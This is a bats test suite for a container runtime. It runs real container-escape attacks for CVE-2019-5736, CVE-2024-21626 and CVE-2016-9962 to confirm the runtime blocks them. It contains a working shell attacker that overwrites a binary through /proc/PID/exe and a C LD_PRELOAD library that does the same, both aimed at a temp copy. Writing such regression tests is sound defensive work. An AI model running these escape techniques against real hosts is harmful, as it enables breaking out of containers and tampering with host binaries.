#!/usr/bin/env bats
# One test per CVE class this module defends against; each runs the attack.
#   CVE-2019-5736   overwrite the runtime binary through /proc/PID/exe
#   CVE-2024-21626  a leaked host fd as the cwd, or inherited by the container
#   CVE-2016-9962   /proc/PID of the init must not be open to the container
# The CVE-2019-5736 tests attack a copy of husk in the test's temp dir, never
# the build, and each first proves on an unprotected binary that the technique
# works on this host.
bats_require_minimum_version 1.5.0
load helpers

setup() { setup_writable_bundle; }
teardown() { teardown_bundle; }

# ---- CVE-2024-21626 --------------------------------------------------------

@test "CVE-2024-21626: process.cwd through a leaked fd is refused" {
	# Leak host directories the way a careless caller would.
	exec 7</ 8</etc 9<"$TEST_TMP"
	for n in 3 4 5 6 7 8 9 10; do
		cfg --arg cwd "/proc/self/fd/$n" '.process.cwd = $cwd'
		in_ctr 'echo "RAN in $(pwd)"; ls'
		echo "cwd fd $n: $output"
		[ "$status" -ne 0 ]
		[[ "$output" != *RAN* ]]
	done
	cfg '.process.cwd = "/proc/self/cwd/../../../.."'
	in_ctr 'echo "RAN in $(pwd)"'
	[ "$status" -ne 0 ]
	[[ "$output" != *RAN* ]]
	exec 7<&- 8<&- 9<&-
}

@test "CVE-2024-21626: no fd of husk or of its caller reaches the container" {
	exec 7</ 8</etc 9<"$TEST_TMP"
	in_ctr 'ls /proc/self/fd | tr "\n" " "; echo; for f in /proc/self/fd/*; do readlink $f; done; true'
	exec 7<&- 8<&- 9<&-
	[ "$status" -eq 0 ]
	# 0, 1, 2 and the fd ls itself uses for the listing
	[ "$(printf '%s\n' "$output" | head -n1)" = "0 1 2 3 " ]
	[[ "$output" != *"$TEST_TMP"* ]]
}

# ---- CVE-2016-9962 ---------------------------------------------------------

@test "CVE-2016-9962: a container process cannot ptrace-open the init before start" {
	# The init of a created container holds host resources until start; it is
	# not dumpable, so even root in the same pid namespace without
	# CAP_SYS_PTRACE cannot open its /proc/PID/{exe,fd,environ}.
	cfg '.process.args = ["true"]'
	husk create --pid-file "$TEST_TMP/pid" "$CID"
	pid=$(cat "$TEST_TMP/pid")
	# Drop every capability, keep uid 0: the container's situation.
	for f in exe cwd root fd/0; do
		run setpriv --inh-caps=-all --bounding-set=-all -- readlink "/proc/$pid/$f"
		echo "$f: $status $output"
		[ "$status" -ne 0 ]
	done
	run setpriv --inh-caps=-all --bounding-set=-all -- cat "/proc/$pid/environ"
	[ "$status" -ne 0 ]
	# Control: with its capabilities, root can (the check is real).
	run readlink "/proc/$pid/cwd"
	[ "$status" -eq 0 ]
	husk delete --force "$CID"
}

# ---- CVE-2019-5736 ---------------------------------------------------------

# A copy of husk in the temp dir; the attacks aim at it.
copy_husk() { # [BINARY]: $HUSK unless given
	mkdir -p "$TEST_TMP/bin"
	cp "${1:-$HUSK}" "$TEST_TMP/bin/husk"
	HUSK_COPY=$TEST_TMP/bin/husk
	sha_before=$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)
}

husk_copy() { "$HUSK_COPY" --root "$HUSK_ROOT" "$@"; }

# The attacker, for busybox sh in container A: find a process whose cmdline
# contains MARKER, keep its /proc/PID/exe open, then keep trying to write
# through it until DEADLINE seconds passed.  Evidence in /tmp/result-MARKER.
write_attacker() {
	cat > "$BUNDLE/rootfs/attack.sh" <<'SH'
#!/bin/sh
marker=$1; res=/tmp/result-$(echo "$marker" | tr / _); self=$$
: > "$res"
i=0
while [ $i -lt 3000 ]; do
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		[ "$p" = "$self" ] && continue
		c=$(tr '\0' ' ' < "$d/cmdline" 2>/dev/null)
		case "$c" in
		"sh /attack.sh"*) continue ;; # ourselves and our subshells
		*"$marker"*) ;;
		*) continue ;;
		esac
		# A failed `exec 3<` would end this shell: probe in a subshell first.
		if (exec 3< "$d/exe") 2>/dev/null; then
			exec 3< "$d/exe"
			echo "opened $p" >> "$res"
			[ -n "$2" ] && cat "$2" > /dev/null &
			j=0
			while [ $j -lt 300 ]; do
				if (printf '#PWNED' >> /proc/self/fd/3) 2>> "$res.err"; then
					echo WROTE >> "$res"; exit 0
				fi
				j=$((j + 1)); usleep 10000
			done
			echo GAVEUP >> "$res"; exit 0
		fi
	done
	i=$((i + 1)); usleep 5000
done
echo NOTFOUND >> "$res"
SH
	chmod +x "$BUNDLE/rootfs/attack.sh"
}

# Start the attacker container A (CAP_SYS_PTRACE, so non-dumpable processes are
# open to it too: the strongest attacker short of a privileged container).
start_attacker() { # MARKER [FIFO]
	write_attacker
	cp "$BUNDLE/config.json" "$TEST_TMP/config.base.json"
	cfg --arg m "$1" --arg f "${2:-}" '.process.args = ["sh", "/attack.sh", $m, $f]
	     | .process.noNewPrivileges = false
	     | .process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
	ATTACKER=$CID-a
	husk_copy create --pid-file "$TEST_TMP/a.pid" "$ATTACKER"
	husk_copy start "$ATTACKER"
	cp "$TEST_TMP/config.base.json" "$BUNDLE/config.json"
}

# The victim container B joins A's pid namespace; same rootfs.
make_victim_bundle() { # ARGS-JSON
	VB=$TEST_TMP/victim
	mkdir -p "$VB"
	jq --argjson a "$1" --arg ns "/proc/$(cat "$TEST_TMP/a.pid")/ns/pid" --arg r "$BUNDLE/rootfs" '
		.process.args = $a | .root.path = $r
		| .linux.namespaces = [.linux.namespaces[] | if .type == "pid" then {type: "pid", path: $ns} else . end]' \
		"$BUNDLE/config.json" > "$VB/config.json"
}

result_file() { echo "$BUNDLE/rootfs/tmp/result-$(echo "$1" | tr / _)"; }

wait_result() { # MARKER WORD
	local f
	f=$(result_file "$1")
	for _ in $(seq 400); do grep -q "$2" "$f" 2>/dev/null && return 0; sleep 0.02; done
	echo "attacker never reported $2:"; cat "$f"* 2>/dev/null
	return 1
}

@test "CVE-2019-5736 control: the /proc/PID/exe technique does overwrite an unprotected binary" {
	copy_husk
	mkdir -p "$BUNDLE/rootfs/victim"
	cp "$(command -v busybox || echo /bin/busybox)" "$BUNDLE/rootfs/victim/busybox"
	vsha=$(sha256sum "$BUNDLE/rootfs/victim/busybox" | cut -d' ' -f1)
	start_attacker victim-marker
	# Two commands, so the shell (running the copy) stays until sleep is done.
	make_victim_bundle '["/victim/busybox", "sh", "-c", "/victim/busybox sleep 0.5; true", "victim-marker"]'
	husk_copy run --bundle "$VB" "$CID-b"
	wait_result victim-marker WROTE
	[ "$(sha256sum "$BUNDLE/rootfs/victim/busybox" | cut -d' ' -f1)" != "$vsha" ]
}

@test "CVE-2019-5736: /proc/PID/exe of a created container's init cannot be written" {
	copy_husk
	start_attacker "$CID-b"
	make_victim_bundle '["true"]'
	husk_copy create --bundle "$VB" "$CID-b"
	wait_result "$CID-b" opened
	husk_copy start "$CID-b"
	wait_result "$CID-b" GAVEUP
	res=$(result_file "$CID-b")
	grep -q "Read-only file system" "$res.err"
	run ! grep -q WROTE "$res"
	[ "$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)" = "$sha_before" ]
}

@test "CVE-2019-5736: an entrypoint of #!/proc/self/exe cannot write the husk binary" {
	copy_husk
	# The kernel runs the init's own executable - husk - as the interpreter,
	# inside the container.  --log on a FIFO holds it there until the
	# attacker has its exe open.
	mkfifo "$BUNDLE/rootfs/tmp/hold"
	# If husk is dynamically linked, the container must offer it a loader and
	# its libraries (a real attacker ships them, often with a malicious one).
	local lib
	for lib in $(ldd "$HUSK_COPY" | awk '/=> \// {print $3} /^\t\/.*ld-linux/ {print $1}'); do
		mkdir -p "$BUNDLE/rootfs$(dirname "$lib")"
		cp -L "$lib" "$BUNDLE/rootfs$lib"
	done
	printf '#!/proc/self/exe --log=/tmp/hold\n' > "$BUNDLE/rootfs/evil"
	chmod +x "$BUNDLE/rootfs/evil"
	start_attacker "/evil" /tmp/hold
	make_victim_bundle '["/evil"]'
	run husk_copy run --bundle "$VB" "$CID-b"
	echo "victim: $status $output"
	wait_result "/evil" GAVEUP
	res=$(result_file "/evil")
	# It was husk that the attacker held: the FIFO was opened by it.
	grep -q "opened" "$res"
	grep -q "Read-only file system" "$res.err"
	run ! grep -q WROTE "$res"
	[ "$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)" = "$sha_before" ]
}

# The container has its own pid namespace, so husk's init is alone in it until
# its execve.  The entrypoint is a script whose interpreter is /proc/self/exe:
# the kernel runs husk's own binary as the container's pid 1, and a library the
# image preloads into it keeps that binary open and writes it once no host
# husk executes it any more (create + start, the way engines run containers).
@test "CVE-2019-5736: own pid namespace: #!/proc/self/exe with a preloaded library cannot write husk" {
	husk_is_asan && skip "the ASan husk refuses to start with a preloaded library first (ASan runtime must come first)"
	command -v cc >/dev/null || skip "no C compiler to build the attacker's library"
	# A static husk (the default build) has no loader to preload into; the
	# defence is the same code either way, so the attack runs against the
	# dynamically linked build of the same sources (make test-artifacts).
	local target=$HUSK
	if ! ldd "$HUSK" >/dev/null 2>&1; then
		target=${BUILD:-$(dirname "$HUSK")}/tests/husk-dynamic
		[ -x "$target" ] || skip "no dynamically linked husk at $target (make test-artifacts builds it)"
	fi
	copy_husk "$target"
	cat > "$TEST_TMP/evil.c" <<'C'
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void say(const char *what)
{
	int r = open("/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (r >= 0) {
		dprintf(r, "%s\n", what);
		close(r);
	}
}
__attribute__((constructor)) static void evil(void)
{
	int exe = open("/proc/self/exe", O_PATH);
	if (exe < 0)
		return;
	say("opened");
	if (fork() == 0) {
		/* The holder must not run husk's code itself (that keeps the file
		 * busy): the image's shell gets the fd and keeps trying. */
		dup2(exe, 3);
		execl("/bin/sh", "sh", "-c",
		      "for i in $(seq 200); do "
		      "  if echo PWNED 2>/dev/null >/proc/self/fd/3; then echo WROTE >>/result; exit; fi; "
		      "  e=$( (echo x >/proc/self/fd/3) 2>&1 ); "
		      "  case \"$e\" in *busy*) sleep 0.05 ;; *) echo \"GAVEUP $e\" >>/result; exit ;; esac; "
		      "done; echo 'GAVEUP timeout' >>/result",
		      (char *)0);
		_exit(1);
	}
	/* pid 1 stops being husk, so only the host's husk processes hold it busy */
	execl("/bin/sleep", "sleep", "30", (char *)0);
}
C
	cc -D_GNU_SOURCE -shared -fPIC -o "$BUNDLE/rootfs/evil.so" "$TEST_TMP/evil.c"
	local lib
	for lib in $(ldd "$HUSK_COPY" | awk '/=> \// {print $3} /^\t\/.*ld-linux/ {print $1}'); do
		mkdir -p "$BUNDLE/rootfs$(dirname "$lib")"
		cp -L "$lib" "$BUNDLE/rootfs$lib"
	done
	printf '#!/proc/self/exe\n' > "$BUNDLE/rootfs/evil"
	chmod +x "$BUNDLE/rootfs/evil"
	cfg '.process.args = ["/evil"] | .process.env += ["LD_PRELOAD=/evil.so"]'
	jq -e '.linux.namespaces | map(.type) | index("pid")' "$BUNDLE/config.json" >/dev/null
	husk_copy create --bundle "$BUNDLE" "$CID" </dev/null
	husk_copy start "$CID"
	for _ in $(seq 300); do grep -qE "WROTE|GAVEUP|NOT-WRITTEN" "$BUNDLE/rootfs/result" 2>/dev/null && break; sleep 0.05; done
	cat "$BUNDLE/rootfs/result" || true
	husk_copy delete --force "$CID"
	grep -q opened "$BUNDLE/rootfs/result"
	run ! grep -q WROTE "$BUNDLE/rootfs/result"
	[ "$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)" = "$sha_before" ]
}
